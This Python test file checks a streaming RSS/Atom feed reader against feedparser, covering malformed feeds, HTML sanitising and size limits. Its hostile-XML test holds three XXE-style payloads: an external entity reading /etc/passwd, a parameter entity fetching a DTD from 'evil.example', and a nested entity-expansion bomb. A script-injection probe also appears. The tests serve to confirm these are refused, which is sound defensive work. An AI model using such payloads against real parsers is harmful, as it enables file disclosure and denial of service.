"""The streaming feed reader (`reader/core/feeds/stream.py`) against feedparser: the same
ParsedFeed, field by field, for every sample feed and every distinct entry of the
feed-stream-dev snapshots; odd and malformed feeds left to feedparser; hostile XML refused;
the size limit."""

from __future__ import annotations

import dataclasses
import datetime as dt
import re
from pathlib import Path

import pytest
from feed_samples import ATOM, HOSTILE, MALFORMED, RDF, RSS2, SUMMARY_ONLY, FeedServer, Reply
from test_feeds_big import big_feed
from test_sources_bylines import AGGREGATED

from reader.core.feeds import FeedError, fetch_feed, parse_feed
from reader.core.feeds import parse as parse_module
from reader.core.feeds.parse import ParsedFeed
from reader.core.feeds.stream import FeedStream, Odd

WHEN = dt.datetime(2026, 1, 2, 12, 0, tzinfo=dt.UTC)
DEV = Path(__file__).resolve().parents[3] / "shared" / "data" / "feed-stream-dev"
WEB, FILE = "https://feeds.example/news/feed.xml", "/home/me/feeds/saved.xml"


def assert_same(expected: ParsedFeed, got: ParsedFeed) -> None:
    """Field by field, so a difference names its field (and its entry)."""
    for name in ("title", "site", "skipped", "fetched", "notices", "keys"):
        assert getattr(got, name) == getattr(expected, name), name
    assert len(got.entries) == len(expected.entries)
    for index, (want, have) in enumerate(zip(expected.entries, got.entries, strict=True)):
        for field in dataclasses.fields(want):
            assert getattr(have, field.name) == getattr(want, field.name), (index, field.name)


def both(data: bytes, location: str) -> tuple[ParsedFeed, ParsedFeed]:
    """(feedparser's reading, the stream's reading); the stream must not find it odd."""
    return (
        parse_module._with_feedparser(data, location, WHEN),
        parse_module._streamed(data, location, WHEN),
    )


STREAMED = {
    "rss2": RSS2,
    "atom": ATOM,
    "rdf": RDF,
    "summary_only": SUMMARY_ONLY,
    "aggregated": AGGREGATED,
    "big": big_feed(40).decode(),
}


@pytest.mark.parametrize("location", [WEB, FILE])
@pytest.mark.parametrize("name", sorted(STREAMED))
def test_the_stream_reads_each_sample_as_feedparser_does(name: str, location: str) -> None:
    expected, got = both(STREAMED[name].encode(), location)
    assert_same(expected, got)
    assert got.entries  # not a vacuous comparison
    assert_same(expected, parse_feed(STREAMED[name].encode(), location, fetched=WHEN))


@pytest.mark.parametrize("text", [MALFORMED, HOSTILE])
def test_malformed_and_hostile_feeds_are_left_to_feedparser(text: str) -> None:
    with pytest.raises(Odd):
        parse_module._streamed(text.encode(), WEB, WHEN)
    assert_same(
        parse_module._with_feedparser(text.encode(), WEB, WHEN),
        parse_feed(text.encode(), WEB, fetched=WHEN),
    )


def test_a_malformed_feed_still_says_how_many_entries_were_read() -> None:
    feed = parse_feed(MALFORMED.encode(), WEB, fetched=WHEN)
    assert feed.notices[0].startswith("not well-formed: read 2 entries anyway")


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (("<item>", "<item><itunes:summary xmlns:itunes='x:y'>s</itunes:summary>"), "unexpected"),
        (("<title>Port strike", "<title>Port &lt;/b&gt; strike"), "may be HTML"),
        (("<dc:creator>Ann Reporter", "<dc:creator>ann@gazette.example (Ann)"), "e-mail"),
        (("<channel>", "<channel xml:base='https://elsewhere.example/'>"), "xml:base"),
        (('encoding="utf-8"', 'encoding="iso-8859-1"'), "UTF-8"),
    ],
)
def test_what_the_stream_does_not_read_exactly_is_odd(change: tuple[str, str], why: str) -> None:
    data = RSS2.replace(*change).encode()
    with pytest.raises(Odd, match=why):
        parse_module._streamed(data, WEB, WHEN)
    assert_same(parse_module._with_feedparser(data, WEB, WHEN), parse_feed(data, WEB, fetched=WHEN))


def test_html_that_is_not_plain_goes_through_the_sanitiser() -> None:
    script = "&lt;p&gt;Kept.&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;!-- c --&gt;"
    data = SUMMARY_ONLY.replace("The first teaser says a bridge will close in May.", script)
    expected, got = both(data.encode(), WEB)
    assert_same(expected, got)
    assert got.entries[0].body == "Kept."


def _dev_feeds() -> list[tuple[str, bytes]]:
    """One feed per outlet holding every distinct item of its 36 snapshots (the channel of
    the first), so each entry the replay sees is compared once."""
    items: dict[str, dict[str, None]] = {}
    heads: dict[str, tuple[str, str]] = {}
    for path in sorted(DEV.glob("*/*.xml")):
        text = path.read_text(encoding="utf-8")
        first, last = text.find("<item>"), text.rfind("</item>")
        if first < 0:
            continue
        heads.setdefault(path.name, (text[:first], text[last + len("</item>") :]))
        found = items.setdefault(path.name, {})
        for item in re.findall(r"<item>.*?</item>", text, re.S):
            found[item] = None
    return [
        (name, (heads[name][0] + "".join(found) + heads[name][1]).encode())
        for name, found in sorted(items.items())
    ]


@pytest.mark.skipif(not DEV.is_dir(), reason="the feed-stream-dev snapshots are not beside")
def test_the_stream_reads_every_dev_feed_entry_as_feedparser_does() -> None:
    feeds = _dev_feeds()
    assert len(feeds) == 5
    total = 0
    for _name, data in feeds:
        expected, got = both(data, "https://feeds.example/rss")
        assert_same(expected, got)
        total += len(got.entries)
    assert total > 500


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ],
)
def test_hostile_xml_is_refused_and_never_expanded(prolog: str) -> None:
    data = f'<?xml version="1.0"?>{prolog}' + RSS2.split("?>", 1)[1].replace(
        "Only a teaser.", "&xxe;&b;"
    )
    with pytest.raises(Odd):
        FeedStream(data.encode(), WEB)
    with pytest.raises(FeedError, match="refused"):
        parse_feed(data.encode(), WEB, fetched=WHEN)


def test_undefined_entities_without_a_dtd_are_not_read_by_the_stream() -> None:
    data = RSS2.replace("Only a teaser.", "&lol9;" * 500).encode()
    with pytest.raises(Odd, match="not well-formed"):
        list(FeedStream(data, WEB).entries())
    with pytest.raises(FeedError, match="refused"):
        parse_feed(data, WEB, fetched=WHEN)


def test_a_feed_over_the_old_16_mb_limit_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """17 MB, most of it whitespace between items (cheap to parse), read under the default
    64 MB limit; a configured 16 MB limit refuses it in one clear line."""
    pad = " " * (1024 * 1024) + "\n"
    items = "".join(
        f"<item><title>Story {n}</title><guid>g{n}</guid>"
        f"<description>Paragraph {n} of the wire.</description></item>{pad}"
        for n in range(17)
    )
    data = f'<?xml version="1.0"?><rss version="2.0"><channel><title>W</title>{items}'
    path = tmp_path / "big.xml"
    path.write_bytes((data + "</channel></rss>").encode())
    monkeypatch.delenv("BROADSHEET_MAX_FEED_MB", raising=False)
    fetched = fetch_feed(str(path))
    assert len(fetched.body) > 17 * 1024 * 1024
    feed = parse_feed(fetched.body, fetched.url, fetched=WHEN)
    assert [a.title for a in feed.entries][-1] == "Story 16" and len(feed.entries) == 17
    assert not feed.notices
    monkeypatch.setenv("BROADSHEET_MAX_FEED_MB", "16")
    with pytest.raises(FeedError, match=r"big\.xml: is over the 16 MB limit for a feed$"):
        fetch_feed(str(path))


def test_the_web_client_and_the_subscribe_sniff_follow_the_configured_limit(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from reader.core.web import sniff as sniff_module
    from reader.core.web.client import WebError

    body = big_feed(3000)  # ~1.3 MB
    page = b"<!DOCTYPE html><html><body><p>" + b"Words here. " * 200 + b"</p></body></html>"
    monkeypatch.setattr(sniff_module, "MAX_PAGE_BYTES", 1000)  # pages: 1,000 bytes at most
    with FeedServer() as server:
        server.routes["/feed"] = Reply(body=body, headers={"Content-Type": "application/xml"})
        server.routes["/page"] = Reply(body=page, headers={"Content-Type": "text/html"})
        monkeypatch.setenv("BROADSHEET_MAX_FEED_MB", "1")
        with pytest.raises(FeedError, match="is over the 1 MB limit for a feed"):
            fetch_feed(server.url("/feed"))
        monkeypatch.setenv("BROADSHEET_MAX_FEED_MB", "2")
        assert fetch_feed(server.url("/feed")).body == body
        assert sniff_module.sniff(server.url("/feed")).kind == "feed"  # over the page limit
        with pytest.raises(WebError, match="is over the 1,000 bytes limit for a page"):
            sniff_module.sniff(server.url("/page"))
